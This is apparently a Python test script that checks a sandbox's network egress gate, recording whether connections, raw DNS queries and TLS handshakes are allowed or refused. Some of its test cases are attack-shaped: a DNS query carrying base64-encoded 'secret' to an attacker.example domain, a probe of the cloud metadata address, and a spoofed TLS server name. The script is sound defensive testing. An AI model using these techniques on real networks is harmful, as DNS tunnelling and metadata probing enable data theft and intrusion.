"""What a tool tries against its gate, on every engine: what it may do works, everything else is refused at once and says so."""

import errno
import json
import socket
import ssl
import struct
import sys
import time

port = int(sys.argv[1])
told = {}


def tried(function, *args):
    began = time.monotonic()
    try:
        return function(*args)
    except ssl.SSLError:
        return "SSLError"
    except OSError as error:
        name = errno.errorcode.get(error.errno) if error.errno and error.errno > 0 else type(error).__name__
        return name if time.monotonic() - began < 8 else "hung"


def echo(place, data=b"hello"):
    with socket.create_connection((place, port), timeout=10) as sock:
        sock.sendall(data)
        return sock.recv(99).decode()


def asked(kind, name="tls.wild.example"):
    question = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(10)
        sock.sendto(question + struct.pack("!BHH", 0, kind, 1), ("8.8.8.8", 53))
        reply = sock.recv(999)
    return [reply[3] & 15, reply[7]]


def hello(server_name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("tls.wild.example", port + 1), timeout=10) as sock:
        return tried(context.wrap_socket, sock, False, True, True, server_name)


told["listed"] = echo("echo.example")
told["literal"] = {place: tried(echo, place) for place in ("1.1.1.1", "169.254.169.254", "10.0.0.1", "2606:4700::1111")}
told["unlisted name"] = tried(echo, "attacker.example")
told["other port"] = tried(socket.create_connection, ("echo.example", port + 5), 5)
told["inside"] = tried(echo, "inside.example")
told["questions"] = {kind: asked(kind) for kind in (1, 16, 255, 65)}
told["exfiltration"] = asked(16, "c2VjcmV0.attacker.example")
told["other server name"] = hello("evil.example")
told["no server name"] = hello(None)
told["right server name"] = hello("tls.wild.example")
sys.stdout.write(json.dumps(told))
